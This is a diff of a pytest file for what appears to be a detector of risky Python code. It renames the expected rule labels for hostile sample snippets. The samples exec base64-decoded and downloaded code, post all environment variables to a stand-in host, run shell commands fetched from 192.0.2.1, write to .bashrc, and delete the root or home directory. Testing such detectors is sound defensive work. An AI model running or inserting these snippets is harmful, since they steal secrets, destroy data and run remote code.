@@ -196,8 +196,8 @@ def test_an_ordinary_command_is_not(script: str) -> None:
 @pytest.mark.parametrize(
     ("rule", "program"),
     [
-        ("hidden-code-run", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
-        ("hidden-code-run", "import requests\ncode = requests.get('https://x.net/c').text\nexec(code)\n"),
+        ("decoded-and-run", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
+        ("downloaded-and-run", "import requests\ncode = requests.get('https://x.net/c').text\nexec(code)\n"),
         ("secrets-sent", "import os, requests\nrequests.post('https://x.net', json=dict(os.environ))\n"),
         (
             "secrets-sent",
@@ -212,10 +212,10 @@ def test_an_ordinary_command_is_not(script: str) -> None:
         ("made-permanent", "open('/home/me/.bashrc', 'a').write('x')\n"),
         ("wiped", "import shutil\nshutil.rmtree('/')\n"),
         ("wiped", "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n"),
-        ("hidden-code-run", "import builtins\nrun = getattr(builtins, ''.join(map(chr, [101, 118, 97, 108])))\n"),
+        ("name-in-pieces", "import builtins\nrun = getattr(builtins, ''.join(map(chr, [101, 118, 97, 108])))\n"),
         ("name-in-pieces", "import importlib\nnet = importlib.import_module('url' + 'lib.request')\n"),
         (
-            "hidden-code-run",
+            "remote-commands",
             "import subprocess, urllib.request as u\n"
             "order = u.urlopen('http://192.0.2.1').read()\nsubprocess.run(order, shell=True)\n",
         ),
